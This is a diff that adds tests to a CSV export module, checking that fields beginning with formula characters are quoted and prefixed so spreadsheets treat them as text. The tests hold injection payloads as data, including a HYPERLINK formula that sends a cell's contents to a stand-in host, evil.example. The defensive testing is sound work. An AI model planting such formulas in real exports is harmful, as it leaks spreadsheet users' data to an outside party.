@@ -58,3 +58,37 @@ describe("exportCsv", () => {
     expect(exportCsv(buildSamplePlan(), loadSampleSpec(), { tables: ["meetings"] }).map((f) => f.name)).toEqual(["meetings.csv"]);
   });
 });
+
+describe("CSV injection (OWASP \"CSV Injection\", issue 13)", () => {
+  it("writes a field that a spreadsheet would read as a formula as quoted text with a leading single quote", () => {
+    for (const value of ['=HYPERLINK("http://evil.example","点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=", "-"]) {
+      const field = quoteCsvField(value);
+      expect([value, field]).toEqual([value, `"'${value.replaceAll('"', '""')}"`]);
+      expect(parseCsv(`${field}\r\n`)).toEqual([[`'${value}`]]);
+    }
+    // Only the first character matters: the same signs inside a field are plain text.
+    expect(quoteCsvField("a=b")).toBe("a=b");
+    expect(quoteCsvField("2026-01-15")).toBe("2026-01-15");
+    expect(quoteCsvField("09:00–12:00")).toBe("09:00–12:00");
+  });
+
+  it("neutralises crafted names, titles and rooms in every table", () => {
+    const crafted = loadSampleSpec();
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"详情")';
+    for (const p of crafted.people) p.name = `${evil}${p.id}`;
+    for (const r of crafted.rooms) r.name = `+${r.name}`;
+    for (const i of crafted.agendaItems) i.title = `@${i.title}`;
+    crafted.organization.name = "-钟山区";
+    const files = exportCsv(buildSamplePlan(), crafted);
+    let cells = 0;
+    for (const f of files) {
+      for (const row of parseCsv(f.content.slice(1))) {
+        for (const cell of row) {
+          expect([f.name, cell]).not.toEqual([f.name, expect.stringMatching(/^[=+\-@\t\r]/)]);
+          if (/^'[=+\-@]/.test(cell)) cells++;
+        }
+      }
+    }
+    expect(cells).toBeGreaterThan(50);
+  });
+});
